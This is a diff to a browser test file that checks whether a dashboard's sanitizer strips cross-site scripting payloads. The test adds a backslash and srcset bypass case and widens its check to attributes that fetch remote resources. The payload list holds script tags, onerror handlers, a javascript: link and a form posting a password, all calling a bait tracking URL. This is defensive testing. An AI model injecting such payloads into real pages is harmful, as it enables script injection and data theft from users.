@@ -129,6 +129,7 @@ describe('the dashboard, in Chromium', () => {
         `<script>window.parent.postMessage('pwned', '*'); fetch('${bait('script')}');</script>`,
         `<img src="x" onerror="fetch('${bait('onerror')}'); alert('onerror')">`,
         `<img src="${bait('pixel.png')}" width="1" height="1">`,
+        `<img src="${bait('backslashes.png').replace('//', '\\\\')}" srcset="${bait('srcset.png')} 2x">`,
         `<a id="js-link" href="javascript:fetch('${bait('javascript')}')">claim your prize</a>`,
         `<form id="steal" action="${bait('form')}" method="post"><input name="password" value="hunter2"><button>Go</button></form>`,
         `<iframe src="${bait('frame')}"></iframe>`,
@@ -154,9 +155,11 @@ describe('the dashboard, in Chromium', () => {
       handlers: Array.from(body.ownerDocument.querySelectorAll("*")).filter((el) => Array.from(el.attributes).some((a) => a.name.startsWith('on'))).length,
       scriptLinks: Array.from(body.ownerDocument.querySelectorAll("a")).filter((a) => /javascript:/i.test(a.getAttribute('href') ?? a.getAttribute('xlink:href') ?? '')).length,
       // Not left for the CSP alone to block: a preload scanner may fetch an image before the policy applies.
-      remoteSources: Array.from(body.ownerDocument.querySelectorAll('[src]')).filter((el) => /\/\//.test(el.getAttribute('src') ?? '')).length,
+      fetchingSources: Array.from(body.ownerDocument.querySelectorAll('[src], [srcset], [background], [poster]')).filter((el) =>
+        ['src', 'srcset', 'background', 'poster'].some((name) => !/^\s*data:|^$/i.test(el.getAttribute(name) ?? '')),
+      ).length,
     }));
-    expect(inside).toEqual({ scripts: 0, forms: 0, handlers: 0, scriptLinks: 0, remoteSources: 0 });
+    expect(inside).toEqual({ scripts: 0, forms: 0, handlers: 0, scriptLinks: 0, fetchingSources: 0 });
     const links = await frame.locator('a[href]').evaluateAll((as) => as.map((a) => `${a.getAttribute('target')} ${a.getAttribute('rel')}`));
     expect(links).toEqual(['_blank noopener noreferrer']);
     expect(tracker.received).toEqual([]);
